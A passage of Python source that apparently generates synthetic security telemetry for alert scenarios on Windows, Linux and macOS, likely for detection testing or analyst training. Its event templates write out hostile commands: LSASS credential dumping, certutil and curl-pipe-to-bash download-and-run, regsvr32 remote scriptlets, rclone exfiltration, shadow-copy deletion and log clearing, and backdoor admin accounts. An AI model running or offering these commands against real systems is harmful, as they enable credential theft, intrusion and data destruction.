            I(6, "comsvcs.dll", at=60.2),
            F(6, PUBLIC, "lsass.dmp", at=61),
            P(
                "procdump64.exe",
                parent=0,
                cmd="procdump64.exe -accepteula -ma lsass.exe C:\\Users\\Public\\lsass_{n:100-999}.dmp",
                at=120,
                integrity="High",
            ),
            E(
                9,
                "OpenProcessApiCall",
                at=121,
                FileName="lsass.exe",
                FolderPath="C:\\Windows\\System32\\lsass.exe",
                AdditionalFields='{{"DesiredAccess":"0x1fffff"}}',
            ),
        ]
    ),
    "'Wacatac' malware was detected": Script(
        [
            P(
                "cmd.exe",
                cmd='"cmd.exe" /c certutil -urlcache -split -f http://{urlhost}/{file} %TEMP%\\{file} && %TEMP%\\{file}',
            ),
            P(
                "certutil.exe",
                parent=0,
                cmd="certutil  -urlcache -split -f http://{urlhost}/{file} C:\\Users\\{user}\\Downloads\\{file}",
                at=1,
            ),
            N(1, "{urlhost}", "{ip}", port="80", at=2),
            F(
                1,
                "C:\\Users\\{user}\\Downloads\\",
                "{file}",
                at=20,
                fields={"FileOriginUrl": "http://{urlhost}/{file}", "FileOriginIP": "{ip}"},
            ),
            P("{file}", parent=0, cmd='"C:\\Users\\{user}\\Downloads\\{file}" ', at=60, evidence=True),
            N(4, "{urlhost}", "{ip}", at=65),
            E(
                4,
                "AntivirusDetection",
                at=70,
                FileName="{file}",
                FolderPath="C:\\Users\\{user}\\Downloads\\{file}",
                AdditionalFields='{{"ThreatName":"{family}","WasRemediated":true}}',
            ),
            F("SYSTEM", "C:\\Users\\{user}\\Downloads\\", "{file}", action="FileDeleted", at=75),
        ]
    ),
    "Suspicious service launched via PsExec": Script(
        [
            L(
                "LSASS",
                "Network",
                at=-5,
                RemoteIP="10.1.0.{n:50-60}",
                Protocol="NTLM",
                RemoteDeviceName="{pool:servers}",
            ),
            P(
                "PSEXESVC.exe",
                parent="SERVICES",
                cmd="C:\\Windows\\PSEXESVC.exe",
                account="system",
                integrity="System",
            ),
            F(
                "SYSTEM",
                "C:\\Windows\\",
                "PSEXESVC.exe",
                at=-2,
                bin="PSEXESVC.exe",
                fields={
                    "RequestProtocol": "SMB",
                    "RequestSourceIP": "10.1.0.{n:50-60}",
                    "ShareName": "ADMIN$",
                },
            ),
            P(
                "cmd.exe",
                parent=1,
                cmd='"cmd.exe" /c "{file} -accepteula \\\\{pool:servers} -s cmd.exe"',
                at=5,
                account="system",
                integrity="System",
            ),
            P(
                "{file}",
                parent=3,
                cmd="{file} -accepteula \\\\{pool:servers} -s cmd.exe",
                at=6,
                evidence=True,
                account="system",
                integrity="System",
            ),
            N(4, "", "10.1.0.{n:10-40}", port="445", at=7),
            R(
                1,
                "HKEY_LOCAL_MACHINE\\SYSTEM\\ControlSet001\\Services\\PSEXESVC",
                "ImagePath",
                "%SystemRoot%\\PSEXESVC.exe",
                at=-1,
            ),
        ]
    ),
    "Connection to a known command and control server": Script(
        [
            F(0, PUBLIC, "{file}", at=-120),
            P("rundll32.exe", cmd="rundll32.exe C:\\Users\\Public\\{file},StartW", evidence=True),
            I(1, "{file}", at=0.5),
            N(
                1,
                "{urlhost}",
                "{ip}",
                at=5,
                repeat=48,
                every=60,
                jitter=4,
                fields={"AdditionalFields": '{{"direction":"Out","uri":"{pool:c2_paths}"}}'},
            ),
            E(
                1,
                "NamedPipeEvent",
                at=4,
                AdditionalFields='{{"PipeName":"\\\\Device\\\\NamedPipe\\\\postex_{hex:4}","FileOperation":"File created"}}',
            ),
            N(
                1,
                "{urlhost}",
                "{ip}",
                at=6,
                action="NetworkSignatureInspected",
                fields={
                    "AdditionalFields": '{{"SignatureName":"HTTP_Client","SignatureMatchedContent":"GET {pool:c2_paths} HTTP/1.1"}}'
                },
            ),
            P("cmd.exe", parent=1, cmd="cmd.exe /c whoami /priv & ipconfig /all", at=300),
            P("nltest.exe", parent=4, cmd="nltest  /dclist:contoso.local", at=302),
        ]
    ),
    "Suspicious process injection observed": Script(
        [
            P("{file}", cmd='"{file}" ', evidence=True),
            E(
                0,
                "CreateRemoteThreadApiCall",
                at=5,
                FileName="explorer.exe",
                FolderPath="C:\\Windows\\explorer.exe",
            ),
            E(
                0,
                "OpenProcessApiCall",
                at=4,
                FileName="explorer.exe",
                FolderPath="C:\\Windows\\explorer.exe",
                AdditionalFields='{{"DesiredAccess":"0x1f0fff"}}',
            ),
            E(0, "ReadProcessMemoryApiCall", at=6, FileName="explorer.exe"),
            E(
                0,
                "QueueUserApcRemoteApiCall",
                at=5.5,
                FileName="explorer.exe",
                FolderPath="C:\\Windows\\explorer.exe",
            ),
            E(
                0,
                "NtAllocateVirtualMemoryRemoteApiCall",
                at=4.5,
                FileName="explorer.exe",
                FolderPath="C:\\Windows\\explorer.exe",
            ),
            N("EXPLORER", "{urlhost}", "{ip}", at=30),
        ]
    ),
    "Anomaly detected in ASEP registry": Script(
        [
            P(
                "reg.exe",
                cmd='reg  add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Updater /t REG_SZ /d "C:\\Users\\{user}\\AppData\\Roaming\\{file}" /f',
                evidence=True,
            ),
            R(0, RUN_KEY, "Updater", "C:\\Users\\{user}\\AppData\\Roaming\\{file}", at=0.5),
            P(
                "schtasks.exe",
                cmd='schtasks  /create /tn "Microsoft\\Windows\\Updater" /tr "C:\\Users\\{user}\\AppData\\Roaming\\{file}" /sc onlogon /rl highest /f',
                at=30,
            ),
            E(
                "SVCHOST",
                "ScheduledTaskCreated",
                at=31,
                AdditionalFields='{{"TaskName":"\\\\Microsoft\\\\Windows\\\\Updater"}}',
            ),
            P("regsvr32.exe", cmd="regsvr32.exe /s /n /u /i:http://{ip}/file.sct scrobj.dll", at=60),
            N(4, "", "{ip}", port="80", at=61),
        ]
    ),
    "Possible data exfiltration with rclone": Script(
        [
            P(
                "7z.exe",
                cmd='"7z.exe" a -pInfected123 C:\\Users\\Public\\data.7z C:\\Users\\{user}\\Documents\\*',
                at=-300,
            ),
            F(0, PUBLIC, "data.7z", at=-250),
            P(
                "{file}",
                cmd="{file} copy C:\\Users\\Public\\data.7z remote:exfil --transfers 8 --no-check-certificate",
                evidence=True,
            ),
            N(2, "{urlhost}", "{ip}", repeat=20, every=15, jitter=5),
        ]
    ),
    "Malicious macro in Office document": Script(
        [
            F(
                "OUTLOOK",
                "C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\{hex:8}\\",
                "{file}",
                at=-60,
            ),
            P(
                "WINWORD.EXE",
                parent="OUTLOOK",
                cmd='"WINWORD.EXE" /n "C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\{hex:8}\\{file}" /o ""',
                evidence=True,
            ),
            I(1, "VBE7.DLL", at=2),
            P("cmd.exe", parent=1, cmd="cmd.exe /c powershell -w hidden -enc {b64}", at=8),
            P("powershell.exe", parent=3, cmd="powershell  -w hidden -enc {b64}", at=9),
            N(4, "{urlhost}", "{ip}", port="80", at=11),
            F(4, "C:\\Users\\{user}\\AppData\\Roaming\\", "update.exe", at=14),
            E(
                1,
                "AsrOfficeChildProcessAudited",
                at=8,
                FileName="cmd.exe",
                FolderPath="C:\\Windows\\System32\\cmd.exe",
            ),
        ]
    ),
    "Ransomware behavior detected in the file system": Script(
        [
            P("{file}", cmd='"{file}" -path C:\\Users -enc', evidence=True),
            P(
                "vssadmin.exe",
                parent=0,
                cmd="vssadmin.exe delete shadows /all /quiet",
                at=2,
                integrity="High",
            ),
            P("wbadmin.exe", parent=0, cmd="wbadmin  delete catalog -quiet", at=3, integrity="High"),
            P(
                "bcdedit.exe",
                parent=0,
                cmd="bcdedit  /set {{default}} recoveryenabled no",
                at=4,
                integrity="High",
            ),
            P("wevtutil.exe", parent=0, cmd="wevtutil.exe cl Security", at=5, integrity="High"),
            F(
                0,
                "C:\\Users\\{user}\\Documents\\",
                "{pool:documents}.locked",
                action="FileRenamed",
                at=10,
                repeat=25,
                every=0.5,
                fields={"PreviousFileName": "{pool:documents}"},
            ),
            F(0, "C:\\Users\\{user}\\Desktop\\", "README_RESTORE.txt", at=25),
        ]
    ),
    "Suspicious network discovery activity": Script(
        [
            P(
                "cmd.exe",
                cmd='"cmd.exe" /c ipconfig /all & net view /domain & net group "Domain Computers" /domain',
                evidence=False,
            ),
            P("ipconfig.exe", parent=0, cmd="ipconfig  /all", at=1),
            P("net.exe", parent=0, cmd="net  view /domain", at=2),
            P("net.exe", parent=0, cmd='net  group "Domain Computers" /domain', at=3),
            P(
                "net1.exe",
                parent=3,
                cmd='C:\\Windows\\system32\\net1  group "Domain Computers" /domain',
                at=3.1,
            ),
            P("nltest.exe", parent=0, cmd="nltest  /domain_trusts /all_trusts", at=4),
            P("{file}", parent=0, cmd="{file} -scan 10.1.0.0/24", at=6, evidence=True),
            N(6, "", "10.1.0.{n:1-254}", port="445", at=7, repeat=40, every=0.2, action="ConnectionAttempt"),
            E(
                6,
                "LdapSearch",
                at=8,
                AdditionalFields='{{"SearchFilter":"(&(objectCategory=computer))","AttributeList":"[\\"name\\",\\"operatingSystem\\"]"}}',
            ),
        ]
    ),
    "Unusual sign-in activity on the device": Script(
        [
            L(
                "WINLOGON",
                "RemoteInteractive",
                action="LogonFailed",
                at=-120,
                FailureReason="InvalidUserNameOrPassword",
                RemoteIP="{ip}",
                Protocol="NTLM",
            ),
            L(
                "WINLOGON",
                "RemoteInteractive",
                action="LogonFailed",
                at=-90,
                FailureReason="InvalidUserNameOrPassword",
                RemoteIP="{ip}",
                Protocol="NTLM",
            ),
            L("WINLOGON", "RemoteInteractive", at=-30, RemoteIP="{ip}", Protocol="NTLM"),
            P("{file}", cmd='"{file}" ', evidence=True),
            P("net.exe", cmd="net  user support_{n:10-99} P@ssw0rd! /add", at=60),
            P("net.exe", cmd="net  localgroup administrators support_{n:10-99} /add", at=65),
            E("LSASS", "UserAccountCreated", at=61, AccountName="support_{n:10-99}"),
        ]
    ),
}
_LOLBIN_STORY = Script(
    [
        P("cmd.exe", cmd='"cmd.exe" /c {pool:lolbin_cmds}'),
        P(
            "certutil.exe",
            parent=0,
            cmd="certutil.exe -urlcache -split -f http://{ip}/update.bin C:\\Users\\Public\\update.exe",
            at=1,
        ),
        N(1, "", "{ip}", port="80", at=2),
        F(1, PUBLIC, "update.exe", at=3),
        P("{file}", parent=0, cmd='"{file}" ', at=10, evidence=True),
    ]
)


def story_for(title: str, category: str) -> str:
    """The storyline key of an alert: its title, else a generic download-and-run chain."""
    return title if title in STORIES else "__lolbin"


STORIES["__lolbin"] = _LOLBIN_STORY
#: Alerts on Linux and macOS devices: a download-and-run chain in the shell.
STORIES["__linux"] = Script(
    [
        P("bash", parent="SSHD", cmd='bash -c "curl -fsSL http://{ip}/x.sh | bash"', account="root"),
        P("curl", parent=0, cmd="curl -fsSL http://{ip}/x.sh", at=1, account="root"),
        N(1, "{urlhost}", "{ip}", port="80", at=2),
        F(0, "/tmp/", "{file}", at=5),
        P(
            "{file}",
            parent=0,
            cmd="/tmp/{file} -o stratum+tcp://{urlhost}:3333 --donate-level 1",
            at=10,
            evidence=True,
            account="root",
        ),
        N(4, "{urlhost}", "{ip}", port="3333", at=12, repeat=12, every=300, jitter=20),
    ],
    platform="linux",
)
STORIES["__macos"] = Script(
    [
        P(
            "zsh",
            parent="LAUNCHD",
            cmd='/bin/zsh -c "curl -s http://{ip}/u -o /tmp/{file}; chmod +x /tmp/{file}"',
        ),
        P("curl", parent=0, cmd="curl -s http://{ip}/u -o /tmp/{file}", at=1),
        N(1, "{urlhost}", "{ip}", port="80", at=2),
        F(1, "/tmp/", "{file}", at=3),
        P("{file}", parent=0, cmd="/tmp/{file}", at=10, evidence=True),
        P(
            "osascript",
            parent=4,
            cmd='osascript -e \'display dialog "Update" default answer "" with hidden answer\'',
            at=20,
        ),
    ],
    platform="macos",
)


def binary(key: str) -> Binary | None:
    """The catalogue's binary called *key* (case-insensitive), if any."""
    return _BY_KEY.get(key.lower())
